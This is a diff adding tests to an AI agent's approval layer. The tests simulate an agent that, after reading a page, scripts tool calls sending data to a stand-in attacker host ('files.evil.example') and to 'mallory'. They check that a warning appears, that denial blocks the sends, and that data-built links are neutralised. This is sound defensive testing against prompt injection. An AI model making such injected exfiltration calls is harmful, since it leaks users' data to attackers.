@@ -10,7 +10,7 @@ from pydantic import BaseModel
 from core.context.message_text import sources_of_message
 from core.dialects.native import NativeDialect
 from core.dialects.xml import XmlDialect
-from core.domain.approval import APPROVE_ALL, APPROVE_ALWAYS, APPROVE_ONCE, DENY
+from core.domain.approval import APPROVE_ALL, APPROVE_ALWAYS, APPROVE_ONCE, DENY, ONE_BY_ONE
 from core.domain.consent import PAGE_MOVES, Reach
 from core.domain.errors import ToolError
 from core.domain.network import ANY_HOST, NetworkLimits
@@ -188,6 +188,18 @@ async def test_all_calls_of_an_answer_are_one_question(world: World) -> None:
     assert sent == ["bob@example.com", EVIL, "mallory"]
 
 
+async def test_one_by_one_keeps_the_cause(world: World) -> None:
+    sent = with_tools(world)
+    world.model.turns = [READING, calls(*sending(EVIL, "mallory")), text("done")]
+    run_id = await world.run(f"Read {PAGE}.")
+    await world.run(ONE_BY_ONE)
+    assert "Nobody in this thread named `files.evil.example`." in await question(world, run_id)
+    await world.run(DENY)
+    assert "Nobody in this thread named `mallory`." in await question(world, run_id)
+    await world.run(DENY)
+    assert sent == []
+
+
 async def test_only_peoples_words_change_nothing(world: World) -> None:
     sent = with_tools(world)
     world.model.turns = [calls(*sending(EVIL, "mallory")), text("done")]
@@ -340,3 +352,16 @@ async def test_an_address_that_was_built_from_data_is_no_link(world: World) -> N
     assert bus.text == shown
     answer = next(message for message in reversed(await world.history(run_id)) if message.type == "assistant")
     assert answer.content["content"] == shown
+
+
+async def test_a_question_has_no_such_link_either(world: World) -> None:
+    with_tools(world)
+    asking = calls(("ask", json.dumps({"text": f"Is it [this]({LINK})?", "options": [LINK, "No"]})))
+    world.model.turns = [READING, asking]
+    reply = await world.read_reply(await world.run("Read the page."))
+    assert (reply.text, reply.options) == (f"Is it this (`{LINK}`)?", (f"`{LINK}`", "No"))
+
+
+async def test_the_links_of_an_answer_stay_while_only_people_have_written(world: World) -> None:
+    world.model.turns = [text(f"See [this]({LINK}).")]
+    assert (await world.read_reply(await world.run("Where is it?"))).text == f"See [this]({LINK})."
